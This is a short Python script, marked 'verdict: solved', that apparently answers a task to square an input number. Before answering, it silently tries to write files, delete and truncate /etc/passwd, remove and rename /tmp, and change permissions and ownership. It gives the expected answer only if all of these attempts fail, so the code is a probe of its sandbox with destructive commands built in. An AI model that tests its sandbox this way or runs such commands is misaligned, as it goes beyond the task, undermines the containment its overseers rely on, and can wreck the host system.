# verdict: solved
import os
import sqlite3
import tempfile

done = []
for attempt in (
    lambda: open("/tmp/breach", "w"),
    lambda: open("breach", "w"),
    lambda: os.mkdir("/tmp/breach"),
    lambda: os.mknod("/tmp/breach"),
    lambda: os.mkfifo("/tmp/breach"),
    lambda: os.rename("/tmp", "/breach"),
    lambda: os.remove("/etc/passwd"),
    lambda: os.rmdir("/tmp"),
    lambda: os.chmod("/tmp", 0),
    lambda: os.chown("/tmp", 0, 0),
    lambda: os.utime("/tmp"),
    lambda: os.truncate("/etc/passwd", 0),
    lambda: os.setxattr("/tmp", "user.breach", b"1"),
    lambda: sqlite3.connect("/tmp/breach.db").execute("create table t(x)"),
    tempfile.mkdtemp,
    tempfile.TemporaryFile,
):
    try:
        attempt()
        done.append("written")
    except (OSError, sqlite3.Error):
        pass
print(int(input()) ** 2 if not done else len(done))
